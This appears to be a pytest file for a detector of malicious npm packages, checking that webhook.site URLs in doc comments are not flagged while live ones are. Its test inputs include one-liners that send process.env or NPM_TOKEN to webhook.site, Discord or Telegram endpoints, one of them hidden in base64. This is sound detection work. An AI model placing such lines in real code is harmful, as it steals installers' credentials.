"""False positives met in the at-risk reading (every file taken as install-reachable) of the
sweep of names 6,001-9,000 of npm-high-impact (decision 0098).

Each case is our own minimal sample of a construct met in a well-known release (named in the
test's docstring), not its code; each benign case is run at install (where it read high) and is
paired with the technique put back where it runs, which must still be found.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

# A generated API client: a method's doc comment shows an example call whose argument is a
# collection URL; the method itself posts to the vendor's API.
_CLIENT = """const https = require('https');

function post(path, body) {
  const req = https.request({ host: 'api.example.com', path, method: 'POST' });
  req.end(JSON.stringify(body));
  return req;
}

class Hooks {
  /**
   * Registers a hook for the given app.
   *
   * @example
   * ```ts
   * await client.hooks.create('app-1', {
   *   events: ['meeting.started', 'meeting.ended'],
   *   url: 'https://webhook.site/00000000-aaaa-bbbb-cccc-000000000000',
   * });
   * ```
   */
  create(app, params) {
    return post(`/apps/${app}/hooks`, params);
  }

  // e.g. list('app-1') -> [{ url: 'https://webhook.site/00000000-aaaa' }]
  list(app) {
    return post(`/apps/${app}/hooks/list`, {});
  }
}
module.exports = { Hooks };
"""


def test_a_collection_url_in_a_doc_comment_is_no_destination(tmp_path: Path) -> None:
    """cloudflare@7.3.0 and 6.5.0 ``resources/realtime-kit/webhooks.{js,mjs,ts}``: the JSDoc
    example of ``createWebhook`` passes ``url: 'https://webhook.site/…'``; with every file taken
    as install-reachable it read GH-EXFIL-WEBHOOK high (the file posts to Cloudflare's API). A
    comment sends nothing."""
    assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, _CLIENT, install=True))


@pytest.mark.parametrize(
    "live",
    [
        # the host in code beside the doc comment
        "const sink = 'https://webhook.site/1111';\npost(sink, process.env);\n",
        # a block comment closed before the code on its line
        "/* report */ https.get('https://webhook.site/2222?d=' + process.env.NPM_TOKEN);\n",
        # after a `//` inside a string, the rest of the line is code
        "const u = 'https://' + 'x'; fetch('https://webhook.site/3333', { method: 'POST' });\n",
        # a Discord webhook and a Telegram bot, not on a comment line
        "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: '' });\n",
        "https.get(`https://api.telegram.org/bot${t}/sendMessage?text=${d}`);\n",
        # the host hidden in an encoded literal
        "https.get(Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvNDQ0NA==', 'base64').toString());\n",
    ],
)
def test_a_collection_url_outside_comments_is_still_found(tmp_path: Path, live: str) -> None:
    """The same file with the host where code uses it is still high at install."""
    found = _found(_package(tmp_path, _CLIENT + live, install=True))
    assert found["GH-EXFIL-WEBHOOK"] == "high"


def test_many_commented_hosts_hide_no_live_one(tmp_path: Path) -> None:
    """Past ``MAX_HOSTS`` commented hosts the first counts: decoys in comments hide nothing."""
    decoys = "".join(f"// see https://webhook.site/{i:04d}\n" for i in range(220))
    code = decoys + "https.get('https://webhook.site/live?d=' + process.env.NPM_TOKEN);\n"
    code = "const https = require('https');\n" + code
    assert _found(_package(tmp_path, code, install=True))["GH-EXFIL-WEBHOOK"] == "high"
